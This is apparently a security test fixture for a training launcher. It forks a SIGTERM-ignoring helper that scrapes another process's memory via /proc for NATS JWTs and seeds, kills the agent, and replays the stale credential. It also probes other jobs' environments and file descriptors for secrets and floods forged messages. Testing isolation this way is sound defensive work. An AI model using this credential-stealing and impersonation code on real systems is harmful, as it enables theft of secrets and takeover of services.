"""A training command that attacks its own job, or another, from the inside, then trains.

Run by tests/runtime/test_attacks_in_run.py under `aegis run`. The rank named by ATTACK_RANK,
in its first attempt, forks a helper into a session of its own (out of its process group,
as a daemon would; it ignores SIGTERM) that runs the attack ATTACK_MODE names:

- `stale`: steals pod 0's live credential out of its agent's memory (/proc/<pid>/mem: same
  OS user, and root here, which a non-dumpable agent does not keep out), connects to NATS
  with it, kills pod 0's agent, and with the stolen, now stale credential sends Finish and
  ACKs (naming its own incarnation, made-up ones, the replacement's) until the server closes
  its connection; tries to connect and to renew again; races the replacement agent for its
  credential (its environment, its secret's descriptor, requests with what it found) while
  asking the credential service at full speed for the replacement's identity (the throttle
  lock-out).
- `cross`: aims at another job of the same name (ATTACK_JOB) by that name alone: finds its
  processes, looks for secrets and paths in what the OS shows of them, asks its credential
  service for its pods' identities with what it found.
- `flood`: publishes at full speed on its own pod's subjects, with its own agent's live
  credential, for FLOOD_S seconds: messages the controller refuses (stale or made-up
  reports, impersonation, ACKs on the report subject, garbage) and heartbeats.

Everything it tries and gets is appended as JSON lines to ATTACK_REPORT as it happens. The
rank itself waits for the helper (ATTACK_WAIT_S at most), then trains as usual.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import re
import runpy
import signal
import sys
import time
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[3]
REPORT = Path(os.environ.get("ATTACK_REPORT", "/dev/null"))
JWT = re.compile(rb"eyJ0eXAiOiAiSldUIiwgImFsZyI6ICJlZDI1NTE5LW5rZXkifQ\.[\w-]+\.[\w-]+")
SEED = re.compile(rb"SU[A-Z2-7]{56}")
NS = "default"


def note(**what: Any) -> None:
    with REPORT.open("a") as f:
        f.write(json.dumps({"t": time.time(), **what}) + "\n")


def read(path: str) -> bytes:
    try:
        return Path(path).read_bytes()
    except OSError:
        return b""


def environ(pid: int) -> dict[str, str]:
    out = {}
    for item in read(f"/proc/{pid}/environ").split(b"\0"):
        key, sep, value = item.partition(b"=")
        if sep:
            out[key.decode(errors="replace")] = value.decode(errors="replace")
    return out


def parent(pid: int) -> int:
    try:
        return int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
    except (IndexError, ValueError):
        return 0


def launcher_of(pid: int) -> int:
    """The `aegis run` process above `pid` (0 if none)."""
    while pid > 1:
        if b"aegis.cli\0run" in read(f"/proc/{pid}/cmdline"):
            return pid
        pid = parent(pid)
    return 0


def processes() -> list[int]:
    return [int(e) for e in os.listdir("/proc") if e.isdigit()]


def agents(job: str, pod: str, launcher: int) -> list[int]:
    """The agent processes of `pod` of `job` under `launcher`."""
    found = []
    for pid in processes():
        if b"aegis.cli\0agent" not in read(f"/proc/{pid}/cmdline"):
            continue
        env = environ(pid)
        if (env.get("AEGIS_JOB"), env.get("AEGIS_POD")) == (job, pod) and env.get(
            "AEGIS_LAUNCHER_PID"
        ) == str(launcher):
            found.append(pid)
    return found


def nats_url(launcher: int) -> str:
    """The job's NATS address, as anyone on the machine finds it: the nats-server its
    launcher started, and the ports file beside its config."""
    for pid in processes():
        cmd = read(f"/proc/{pid}/cmdline").split(b"\0")
        if parent(pid) == launcher and any(c.endswith(b"nats-server") for c in cmd):
            conf = Path(cmd[cmd.index(b"-c") + 1].decode())
            ports = json.loads(next(conf.parent.glob("*.ports")).read_text())
            return "nats://" + ports["nats"][0].split("://")[-1]
    raise RuntimeError("no nats-server found")


def memory(pid: int) -> bytes:
    chunks = []
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or hi - lo > 1 << 30:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                mem.seek(lo)
                chunks.append(mem.read(hi - lo))
    return b"\n".join(chunks)


def steal(pid: int) -> tuple[str, bytes] | None:
    """(JWT, seed) of the worker user whose seed and JWT are both in `pid`'s memory."""
    import nkeys

    data = memory(pid)
    jwts, seeds = set(JWT.findall(data)), set(SEED.findall(data))
    for seed in seeds:
        with contextlib.suppress(Exception):
            public = nkeys.from_seed(bytearray(seed)).public_key.decode()
            for jwt in jwts:
                body = jwt.split(b".")[1]
                claims = json.loads(base64.urlsafe_b64decode(body + b"=" * (-len(body) % 4)))
                if claims.get("sub") == public and claims.get("nats", {}).get("pub"):
                    return jwt.decode(), seed
    return None


class Attack:
    """What every attack needs: the job, its processes, the aegis pieces it uses."""

    def __init__(self) -> None:
        from aegis.protocol.subjects import JobSubjects

        self.job = os.environ["AEGIS_JOB"]
        self.launcher = launcher_of(os.getpid())
        self.subjects = JobSubjects(NS, self.job)

    async def run(self) -> None:
        """The attack."""
        raise NotImplementedError

    async def connect(self, stolen: tuple[str, bytes], url: str, pod: str) -> Any:
        from aegis.runtime.transport.auth import UserCredentials
        from aegis.runtime.transport.bus import Bus

        creds = UserCredentials(stolen[0], stolen[1])
        inbox = self.subjects.inbox_prefix(pod)
        return await Bus.connect(url, creds, reconnect_attempts=1, inbox_prefix=inbox)

    async def spam(self, target: str, pod: str, incs: list[str], stop: asyncio.Event) -> None:
        """Credential requests with wrong proofs, 200 at a time, until `stop`."""
        from aegis.runtime.errors import AegisError
        from aegis.runtime.transport.grpc_credentials import request_credentials

        sent = refused = 0
        while not stop.is_set():
            results = await asyncio.gather(
                *(
                    request_credentials(
                        target,
                        namespace=NS,
                        job=self.job,
                        pod_name=pod,
                        proof=f"guess-{sent + i}",
                        incarnation=incs[(sent + i) % len(incs)],
                        attempts=1,
                        timeout=5.0,
                    )
                    for i in range(200)
                ),
                return_exceptions=True,
            )
            sent += len(results)
            refused += sum(isinstance(r, AegisError) for r in results)
            note(step="spam", pod=pod, incarnations=incs, sent=sent, refused=refused)

    async def ask(self, target: str, job: str, pod: str, inc: str, proofs: list[str]) -> list[str]:
        """Ask for `inc` of `pod` with each of `proofs`; what came back."""
        from aegis.runtime.errors import AegisError
        from aegis.runtime.transport.grpc_credentials import request_credentials

        outcomes = []
        for proof in proofs:
            try:
                await request_credentials(
                    target, namespace=NS, job=job, pod_name=pod, proof=proof,
                    incarnation=inc, attempts=1,
                )  # fmt: skip
                outcomes.append("GRANTED")
            except AegisError as exc:
                outcomes.append(f"refused: {exc}"[:200])
        return outcomes


class Stale(Attack):
    """A stale credential: pod 0's, kept after its agent was killed."""

    async def run(self) -> None:
        victim = f"{self.job}-worker-0"
        [agent] = agents(self.job, victim, self.launcher)
        env = environ(agent)
        target, inc = env["AEGIS_GRPC"], env["AEGIS_INCARNATION"]
        stolen = steal(agent)
        note(step="steal", agent=agent, incarnation=inc, stolen=stolen is not None)
        assert stolen is not None
        url = nats_url(self.launcher)
        bus = await self.connect(stolen, url, victim)
        seqs: list[int] = [1]

        async def heard(m: Any) -> None:
            seqs.append(m.seq)

        await bus.subscribe(self.subjects.master, heard)
        note(step="connected", ok=bus.connected)
        stop = asyncio.Event()
        spammer = asyncio.create_task(self.spam(target, victim, [inc, "made-up"], stop))
        os.kill(agent, signal.SIGKILL)  # the pod's agent dies: a replacement comes
        note(step="killed", agent=agent)
        replacement = await self.send_stale(bus, victim, inc, agent, seqs)
        await bus.close()
        await self.retry_stale(stolen, url, target, victim, inc)
        await self.race(target, victim, agent, replacement, stop)
        await spammer
        note(step="done")

    async def send_stale(
        self, bus: Any, victim: str, inc: str, agent: int, seqs: list[int]
    ) -> dict[str, str]:
        """Finish and ACKs with the stale credential, until its connection is closed."""
        from aegis.protocol.envelope import Message, MessagePhase, MessageType

        s, receipts, sent, found = self.subjects, {}, 0, {}  # type: ignore[var-annotated]
        deadline = time.monotonic() + 10
        while bus.connected and time.monotonic() < deadline:
            named_new = found.get("inc", "made-up")
            for kind, subject, named in (
                (MessageType.FINISH, s.report(victim, inc), inc),
                (MessageType.FINISH, s.report(victim, inc), named_new),
                (MessageType.ACK, s.join(victim, inc), f"made-up-{sent}"),
                (MessageType.ACK, s.join(victim, inc), inc),
            ):
                with contextlib.suppress(Exception):
                    m = Message(self.job, NS, victim, kind, MessagePhase.COMMAND,
                                {"incarnation": named}, time.time(), seqs[-1])  # fmt: skip
                    for _ in range(10):
                        await bus.publish(subject, m)
                    reply = await bus.request(subject, m, 0.2)
                    result = str(reply.data.get("result") or reply.type.value)
                    receipts[result] = receipts.get(result, 0) + 1
                sent += 11
            found = found or self.replacement_of(victim, agent)
        note(step="stale", sent=sent, receipts=receipts, closed=not bus.connected)
        return found

    def replacement_of(self, victim: str, agent: int) -> dict[str, str]:
        others = [p for p in agents(self.job, victim, self.launcher) if p != agent]
        if not others:
            return {}
        return {"pid": str(others[0]), "inc": environ(others[0]).get("AEGIS_INCARNATION", "")}

    async def retry_stale(
        self, stolen: tuple[str, bytes], url: str, target: str, victim: str, inc: str
    ) -> None:
        from aegis.runtime.errors import AegisError
        from aegis.runtime.transport.auth import UserCredentials
        from aegis.runtime.transport.grpc_credentials import IssuedCredentials, renew_credentials
        from aegis.runtime.transport.nats_server import can_connect

        creds = UserCredentials(stolen[0], stolen[1])
        note(step="reconnect", ok=await can_connect(url, creds, 3.0))
        issued = IssuedCredentials(creds, url, self.subjects, victim, inc, 1)
        try:
            await renew_credentials(target, issued, attempts=1)
            note(step="renew", ok=True)
        except AegisError as exc:
            note(step="renew", ok=False, why=str(exc)[:300])

    async def race(
        self, target: str, victim: str, agent: int, found: dict[str, str], stop: asyncio.Event
    ) -> None:
        """The replacement's credential: its environment, its secret, requests with those,
        and a flood of wrong ones for its identity while it asks for its own."""
        deadline = time.monotonic() + 30
        while not found and time.monotonic() < deadline:
            found = self.replacement_of(victim, agent)
            await asyncio.sleep(0.005)
        if not found:
            note(step="race", error="no replacement seen")
            stop.set()
            return
        pid, inc = int(found["pid"]), found["inc"]
        renv = environ(pid)
        fd = renv.get("AEGIS_SECRET_FD", "")
        opened = "no descriptor named"
        if fd:
            try:
                opened = f"read {Path(f'/proc/{pid}/fd/{fd}').read_bytes()[:8]!r}"
            except OSError as exc:
                opened = f"refused: {exc.strerror}"
        spammer = asyncio.create_task(self.spam(target, victim, [inc], stop))
        tries = await self.ask(target, self.job, victim, inc, ["", "guess"])
        note(step="race", incarnation=inc, secret_fd=opened,
             token=bool(renv.get("AEGIS_BOOTSTRAP_TOKEN")), tries=tries)  # fmt: skip
        await asyncio.sleep(3)  # the flood goes on while the replacement asks for its own
        stop.set()
        await spammer


class Cross(Attack):
    """Another job of the same name, aimed at by that name alone."""

    async def run(self) -> None:
        name = os.environ.get("ATTACK_JOB", self.job)
        named = name.encode()

        def of_that_name(pid: int) -> bool:
            return environ(pid).get("AEGIS_JOB") == name or named in read(
                f"/proc/{pid}/cmdline"
            ).split(b"\0")

        theirs = [
            p for p in processes()
            if of_that_name(p) and launcher_of(p) not in (0, self.launcher, os.getpid())
            and p != self.launcher
        ]  # fmt: skip
        secrets_seen, paths, targets = set(), set(), {}
        for pid in theirs:
            env = environ(pid)
            if env.get("AEGIS_BOOTSTRAP_TOKEN"):
                secrets_seen.add("AEGIS_BOOTSTRAP_TOKEN")
            for key in ("AEGIS_SECRET_FD", "AEGIS_STATE_DIR_FD"):  # a number: read it there
                with contextlib.suppress(OSError, ValueError):
                    if env.get(key) and Path(f"/proc/{pid}/fd/{int(env[key])}").read_bytes():
                        secrets_seen.add(key)
            for value in [*env.values(), *read(f"/proc/{pid}/cmdline").decode().split("\0")]:
                for part in value.split(os.pathsep):
                    for d in (Path(part), Path(part).parent) if part.startswith("/") else ():
                        if (d / "ctl.json").is_file() or (d / "controller.creds.json").is_file():
                            paths.add(str(d))
            if env.get("AEGIS_GRPC") and env.get("AEGIS_POD"):
                targets[env["AEGIS_POD"]] = (env["AEGIS_GRPC"], env.get("AEGIS_INCARNATION", ""))
        note(step="cross-found", processes=len(theirs), secrets=sorted(secrets_seen),
             state_dirs=sorted(paths), pods=sorted(targets))  # fmt: skip
        for pod, (target, inc) in sorted(targets.items()):
            tries = await self.ask(target, name, pod, inc or "made-up", ["", "guess"])
            note(step="cross-ask", pod=pod, tries=tries)
        note(step="done")


class Flood(Attack):
    """Its own pod's subjects, at full speed, with its own agent's live credential."""

    async def run(self) -> None:
        from aegis.protocol.envelope import Message, MessagePhase, MessageType

        me = os.environ["AEGIS_POD"]
        [agent] = agents(self.job, me, self.launcher)
        inc = environ(agent)["AEGIS_INCARNATION"]
        stolen = steal(agent)
        assert stolen is not None
        bus = await self.connect(stolen, nats_url(self.launcher), me)
        s = self.subjects

        def msg(kind: MessageType, named: str, seq: int) -> bytes:
            data = {"incarnation": named, "reason": "flood"}
            m = Message(self.job, NS, me, kind, MessagePhase.COMMAND, data, time.time(), seq)
            return m.encode()

        plan = [
            (s.report(me, inc), msg(MessageType.FINISH, inc, 10**6)),  # stale, never enabled
            (s.report(me, inc), msg(MessageType.ERROR, "made-up", 1)),  # impersonation
            (s.report(me, inc), msg(MessageType.ACK, inc, 0)),  # unexpected type
            (s.join(me, inc), msg(MessageType.ACK, "made-up", 0)),  # impersonation
            (s.heartbeat(me, inc), msg(MessageType.HEARTBEAT, inc, 0)),
            (s.report(me, inc), b"not a message at all"),  # malformed
        ]
        nc = bus._nc
        sent, start = 0, time.monotonic()
        stop_at = start + float(os.environ.get("FLOOD_S", "5"))
        note(step="flood-start")
        while time.monotonic() < stop_at:
            for subject, data in plan:
                for _ in range(100):
                    await nc.publish(subject, data)
                sent += 100
            await asyncio.sleep(0)
        await bus.flush(10)
        seconds = time.monotonic() - start
        note(step="flood", sent=sent, seconds=seconds, rate=sent / seconds)
        await bus.close()
        note(step="done")


MODES = {"stale": Stale, "cross": Cross, "flood": Flood}


def helper() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    try:
        asyncio.run(MODES[os.environ.get("ATTACK_MODE", "stale")]().run())
    except BaseException as exc:
        note(step="error", error=repr(exc)[:500])
    os._exit(0)


def finished() -> bool:
    lines = REPORT.read_text().splitlines() if REPORT.exists() else []
    return any(json.loads(line)["step"] in ("done", "error") for line in lines)


def main() -> None:
    first = os.environ.get("TORCHELASTIC_RESTART_COUNT") == "0"
    if first and os.environ.get("RANK") == os.environ.get("ATTACK_RANK"):
        if os.fork() == 0:
            os.setsid()
            helper()
        deadline = time.monotonic() + float(os.environ.get("ATTACK_WAIT_S", "60"))
        while time.monotonic() < deadline and not finished():
            time.sleep(0.2)
    sys.argv = [str(ROOT / "examples" / "train_ddp.py")]
    runpy.run_path(sys.argv[0], run_name="__main__")


if __name__ == "__main__":
    main()
